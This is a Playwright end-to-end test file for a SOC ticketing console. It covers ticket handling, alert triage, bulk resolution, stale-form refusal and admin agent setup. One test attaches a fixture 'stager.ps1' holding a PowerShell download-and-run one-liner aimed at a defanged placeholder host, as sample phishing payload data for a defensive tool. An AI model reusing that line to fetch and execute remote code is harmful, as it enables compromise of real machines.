"""The agent's journey through the console in a real Chromium, plus a stale-form refusal."""

from __future__ import annotations

import hashlib
import io
import json
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from playwright.sync_api import expect

from socdesk.accounts.testing import PERSONA_PASSWORD
from socdesk.alerts.ingest import delivery_process, delivery_receive
from socdesk.alerts.models import Integration
from socdesk.audit.models import AuditEvent
from socdesk.tickets.models import Ticket
from tests.browser.conftest import sign_in

pytestmark = pytest.mark.browser


def test_journey_from_login_to_resolution(page, live_server, cast, screenshots):
    base = live_server.url
    page.set_viewport_size({"width": 1400, "height": 900})
    page.goto(f"{base}/login")
    page.screenshot(path=screenshots / "login.png")
    sign_in(page, base, "alice", PERSONA_PASSWORD)
    expect(page.get_by_role("heading", name="Queues")).to_be_visible()

    # Create a ticket for a caller.
    page.get_by_role("link", name="New ticket").click()
    page.get_by_label("Requester email").fill("dana@example.test")
    page.get_by_label("Requester name").fill("Dana Reyes")
    page.get_by_label("Requester phone").fill("+1 555 0100")
    page.get_by_label("Subject").fill("Phishing mail with macro attachment")
    page.get_by_label("Department").select_option(label="SOC")
    page.get_by_label("Severity").select_option(label="High")
    page.get_by_label("Source").select_option(label="Phone")
    page.get_by_label("Tags").fill("phishing, macro")
    page.get_by_label("Description").fill("Caller forwarded a mail with a macro-enabled invoice.")
    page.screenshot(path=screenshots / "new_ticket.png", full_page=True)
    page.get_by_role("button", name="Open ticket").click()
    expect(page.get_by_role("heading", name="Phishing mail with macro attachment")).to_be_visible()
    ticket = Ticket.objects.get(subject="Phishing mail with macro attachment")
    assert page.url.endswith(f"/tickets/{ticket.number}/")

    # Reply to the requester (htmx swaps the ticket in place).
    page.get_by_label("Message").fill("Thanks Dana, please do not open the attachment.")
    page.get_by_role("button", name="Send reply").click()
    expect(page.locator(".entry.reply")).to_contain_text("please do not open the attachment")
    expect(page.get_by_role("status").first).to_contain_text("Reply queued for e-mail to dana@example.test.")

    # Internal note, visibly distinct.
    page.get_by_label("Message").fill("Macro drops a PowerShell stager; hash blocked on EDR.")
    stager = b"IEX (New-Object Net.WebClient).DownloadString('hxxp://203.0.113.9/a')\n"
    page.get_by_label("Attachments").set_input_files(
        files=[{"name": "stager.ps1", "mimeType": "text/plain", "buffer": stager}]
    )
    page.get_by_role("button", name="Add internal note").click()
    note = page.locator(".entry.note").last
    expect(note).to_contain_text("PowerShell stager")
    expect(note).to_contain_text(hashlib.sha256(stager).hexdigest())
    with page.expect_download() as download_info:
        note.get_by_role("link", name="stager.ps1").click()
    download = download_info.value
    assert download.suggested_filename == "stager.ps1"
    assert Path(download.path()).read_bytes() == stager

    # Assign to bob.
    page.get_by_label("Assignee", exact=True).select_option(label="Bob")
    page.get_by_role("button", name="Assign").click()
    expect(page.locator(".facts")).to_contain_text("Bob")

    # Resolve as a false positive.
    page.get_by_label("Status", exact=True).select_option(label="Resolved")
    page.get_by_label("Resolution").select_option(label="False positive")
    page.get_by_role("button", name="Set status").click()
    expect(page.locator(".ticket-head .status")).to_have_text("Resolved")

    history = page.get_by_role("list", name="History")
    for step in (
        "alice opened the ticket",
        "alice replied",
        "alice added an internal note",
        "alice changed the assignment",
        "alice changed the status from In progress to Resolved (false positive)",
    ):
        expect(history).to_contain_text(step)
    page.screenshot(path=screenshots / "ticket.png", full_page=True)

    # The landing page counts the ticket and lists bob's work for bob, not for alice.
    page.goto(f"{base}/")
    expect(page.locator('[data-queue-count="resolved"]')).to_have_text("1")
    page.screenshot(path=screenshots / "landing.png")

    # Queue with keyboard navigation: j moves, Enter opens, / focuses search.
    page.goto(f"{base}/tickets/?queue=all")
    expect(page.get_by_role("link", name=ticket.number)).to_be_visible()
    page.screenshot(path=screenshots / "queue.png")
    page.keyboard.press("j")
    expect(page.locator("tr.row-focus")).to_contain_text(ticket.number)
    page.keyboard.press("/")
    expect(page.get_by_label("Search tickets")).to_be_focused()
    page.keyboard.press("Escape")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(rf".*/tickets/{ticket.number}/$"))

    # Dark theme, remembered across page loads.
    page.get_by_role("button", name="Toggle dark theme").click()
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    page.screenshot(path=screenshots / "dark_ticket.png", full_page=True)
    page.goto(f"{base}/tickets/?queue=all")
    page.screenshot(path=screenshots / "dark_queue.png")

    # Everything the browser session did is in the audit chain, and the chain verifies.
    out = io.StringIO()
    call_command("audit", "verify", stdout=out, stderr=io.StringIO())
    assert "chain intact" in out.getvalue()
    actions = set(AuditEvent.objects.values_list("action", flat=True))
    assert {"auth.login", "ticket.created", "ticket.replied", "ticket.noted", "ticket.assigned"} <= actions
    assert "ticket.status_changed" in actions


def _ingest_demo_alerts(cast) -> dict[str, Ticket]:
    """A morning's alerts through the real ingest engine: a beacon whose address is only an observable,
    and two port scans the analyst will dismiss as noise."""
    integration = Integration.objects.create(adapter="generic", name="edr", department=cast.soc)
    alerts = [
        {
            "title": "Outbound beacon from WS-0142",
            "description": "The EDR saw a periodic HTTPS connection every 60 s.",
            "severity": "medium",
            "fingerprint": "beacon-ws0142",
            "observables": [["ip", "203.0.113.7"], ["hostname", "ws-0142.corp.example.test"]],
        },
        {"title": "Port scan from the guest Wi-Fi", "severity": "low", "fingerprint": "scan-guest"},
        {"title": "Port scan from the lab VLAN", "severity": "low", "fingerprint": "scan-lab"},
    ]
    delivery_process(
        delivery_id=delivery_receive(
            adapter="generic", body=json.dumps(alerts).encode(), integration=integration
        ).pk
    )
    return {t.subject: t for t in Ticket.objects.filter(source="alert")}


def test_journey_alert_triage_search_bulk_resolve_and_draft(page, live_server, cast, screenshots):
    """One analyst's morning on ingested alerts: find the beacon by its (defanged) address from the top
    bar, dismiss the New port scans as false positives in one bulk pass, and write a reply on the beacon
    that survives a severity change before it is sent."""
    tickets = _ingest_demo_alerts(cast)
    beacon = tickets["Outbound beacon from WS-0142"]
    scans = [tickets["Port scan from the guest Wi-Fi"], tickets["Port scan from the lab VLAN"]]
    assert {t.status for t in tickets.values()} == {"new"}
    assert "203.0.113" not in beacon.subject  # the address is only an observable
    base = live_server.url
    page.set_viewport_size({"width": 1440, "height": 900})
    sign_in(page, base, "alice", PERSONA_PASSWORD)

    # Search from the top bar by the address as a report defangs it.
    search = page.get_by_role("searchbox", name="Search tickets")
    search.fill("203.0.113[.]7")
    search.press("Enter")
    page.wait_for_url("**/tickets/?queue=all&q=*")
    expect(page.get_by_role("link", name=beacon.number, exact=True)).to_be_visible()
    for scan in scans:
        expect(page.get_by_role("link", name=scan.number, exact=True)).to_have_count(0)
    expect(page.locator("[data-snippet] mark").first).to_have_text("203.0.113.7")
    page.screenshot(path=screenshots / "journey-search-observable.png", full_page=True)

    # Dismiss the New port scans as false positives in one bulk pass from the queue.
    page.goto(f"{base}/tickets/?queue=open")
    for scan in scans:
        row = page.get_by_role("row").filter(has_text=scan.number)
        expect(row).to_contain_text("New")
        row.get_by_role("checkbox").check()
    page.get_by_label("Bulk action").select_option(label="Set status")
    page.get_by_label("Bulk status").select_option(label="Resolved")
    page.get_by_label("Bulk resolution").select_option(label="False positive")
    page.screenshot(path=screenshots / "journey-bulk-chosen.png", full_page=True)
    page.get_by_role("button", name="Apply to selected").click()
    expect(page.get_by_text("Changed 2 ticket(s)")).to_be_visible()
    page.goto(f"{base}/tickets/?queue=all")
    for scan in scans:
        expect(page.get_by_role("row").filter(has_text=scan.number)).to_contain_text("Resolved")
    expect(page.get_by_role("row").filter(has_text=beacon.number)).to_contain_text("New")
    page.screenshot(path=screenshots / "journey-bulk-resolved.png", full_page=True)
    fresh = Ticket.objects.filter(pk__in=[t.pk for t in scans])
    assert {(t.status, t.resolution) for t in fresh} == {("resolved", "false_positive")}

    # A reply draft on the beacon survives a severity change from the sidebar, then goes once sent.
    draft = "WS-0142 is re-imaged; the address 203.0.113.7 is blocked at the proxy."
    page.get_by_role("link", name=beacon.number, exact=True).click()
    page.wait_for_url(f"{base}/tickets/{beacon.number}/")
    page.get_by_label("Message").fill(draft)
    page.locator("summary", has_text="Severity and tags").click()
    page.get_by_label("Severity").select_option(label="High")
    page.get_by_role("button", name="Set severity").click()
    expect(page.locator(".ticket-head .sev")).to_have_text("High")
    expect(page.get_by_label("Message")).to_have_value(draft)
    page.screenshot(path=screenshots / "journey-draft-kept.png", full_page=True)
    page.get_by_role("button", name="Send reply").click()
    expect(page.locator(".entry.reply")).to_contain_text("blocked at the proxy")
    expect(page.get_by_label("Message")).to_have_value("")
    page.reload()
    expect(page.get_by_label("Message")).to_have_value("")
    page.screenshot(path=screenshots / "journey-draft-sent.png", full_page=True)
    beacon.refresh_from_db()
    assert beacon.severity == "high"
    assert beacon.entries.filter(kind="reply", body__contains="blocked at the proxy").count() == 1


def test_audit_browser_for_admin(page, live_server, cast, screenshots):
    page.set_viewport_size({"width": 1400, "height": 900})
    sign_in(page, live_server.url, "admin", PERSONA_PASSWORD)
    page.goto(f"{live_server.url}/audit/")
    expect(page.get_by_text(re.compile(r"Chain verified up to seq \d+"))).to_be_visible()
    expect(page.locator("table.audit")).to_contain_text("auth.login")
    page.screenshot(path=screenshots / "audit.png")


def test_stale_form_is_refused_and_keeps_the_typed_text(browser, live_server, cast, screenshots):
    from socdesk.core.actor import Actor
    from socdesk.tickets.services import ticket_create

    ticket = ticket_create(
        actor=Actor.for_agent(cast.alice), subject="Impossible travel for j.doe", department=cast.soc
    )
    base = live_server.url
    alice_ctx, bob_ctx = browser.new_context(), browser.new_context()
    try:
        alice, bob = alice_ctx.new_page(), bob_ctx.new_page()
        sign_in(alice, base, "alice", PERSONA_PASSWORD)
        sign_in(bob, base, "bob", PERSONA_PASSWORD)
        alice.goto(f"{base}/tickets/{ticket.number}/")
        bob.goto(f"{base}/tickets/{ticket.number}/")
        # Presence: bob's first heartbeat sees alice on the page.
        expect(bob.locator("#presence-list")).to_contain_text("Alice is viewing")
        bob.set_viewport_size({"width": 1400, "height": 700})
        bob.screenshot(path=screenshots / "presence.png")

        alice.get_by_label("Message").fill("Both logins came from a known VPN exit.")
        bob.locator("summary", has_text="Severity and tags").click()
        bob.get_by_label("Severity").select_option(label="Critical")
        bob.get_by_role("button", name="Set severity").click()
        expect(bob.locator(".ticket-head .sev")).to_have_text("Critical")

        alice.get_by_role("button", name="Send reply").click()
        alert = alice.get_by_role("alert")
        expect(alert).to_contain_text("changed since you loaded it")
        expect(alert).to_contain_text("bob changed the severity from Medium to Critical")
        expect(alice.get_by_label("Message")).to_have_value("Both logins came from a known VPN exit.")
        alice.set_viewport_size({"width": 1400, "height": 900})
        alice.screenshot(path=screenshots / "stale_refusal.png")
        assert not Ticket.objects.get(pk=ticket.pk).entries.filter(kind="reply").exists()

        # The retry, now based on the current version, goes through.
        alice.get_by_role("button", name="Send reply").click()
        expect(alice.locator(".entry.reply")).to_contain_text("known VPN exit")
    finally:
        alice_ctx.close()
        bob_ctx.close()


def test_journey_admin_creates_an_agent_who_signs_in(browser, live_server, cast, screenshots):
    """The admin area's agent form: an admin creates dana with a role and a team, hands over the
    set-password link, and dana chooses a password and signs in to her department's queues."""
    base = live_server.url
    admin_ctx, dana_ctx = browser.new_context(), browser.new_context()
    try:
        admin = admin_ctx.new_page()
        admin.set_viewport_size({"width": 1440, "height": 900})
        sign_in(admin, base, "admin", PERSONA_PASSWORD)
        admin.get_by_role("navigation", name="Main").get_by_role("link", name="Admin").click()
        admin.get_by_role("navigation", name="Admin area").get_by_role("link", name="Agents").click()
        admin.get_by_role("link", name="New agent").click()
        admin.get_by_label("Username").fill("dana")
        admin.get_by_label("E-mail").fill("dana@example.test")
        admin.get_by_label("First name").fill("Dana")
        admin.get_by_label("Last name").fill("Reyes")
        admin.get_by_label("SOC", exact=True).select_option(label="Analyst")
        admin.get_by_label("Tier 1 (SOC)").check()
        admin.get_by_role("button", name="Create agent").click()
        expect(admin.get_by_role("heading", name="Agent dana created")).to_be_visible()
        link = admin.get_by_label(re.compile("Set-password link")).input_value()
        admin.screenshot(path=screenshots / "admin-area-agent-created.png", full_page=True)

        dana = dana_ctx.new_page()
        dana.set_viewport_size({"width": 1440, "height": 900})
        dana.goto(link)
        expect(dana.get_by_role("heading", name="Choose your password")).to_be_visible()
        assert (
            "/set-password/" in dana.url and link.rsplit("/", 1)[1] not in dana.url
        )  # token out of the address
        dana.screenshot(path=screenshots / "set-password.png")
        dana.get_by_label("New password", exact=True).fill("violet-otter-canyon-42")
        dana.get_by_label("New password confirmation").fill("violet-otter-canyon-42")
        dana.get_by_role("button", name="Set password").click()
        expect(dana.get_by_role("heading", name="Your password is set")).to_be_visible()
        dana.get_by_role("link", name="Sign in").click()
        sign_in(dana, base, "dana", "violet-otter-canyon-42")
        expect(dana.get_by_role("heading", name="Queues")).to_be_visible()
        expect(dana.get_by_role("navigation", name="Main")).to_contain_text("New ticket")
    finally:
        admin_ctx.close()
        dana_ctx.close()
    assert {"agent.created", "agent.password_link_issued", "user.password_changed"} <= set(
        AuditEvent.objects.values_list("action", flat=True)
    )
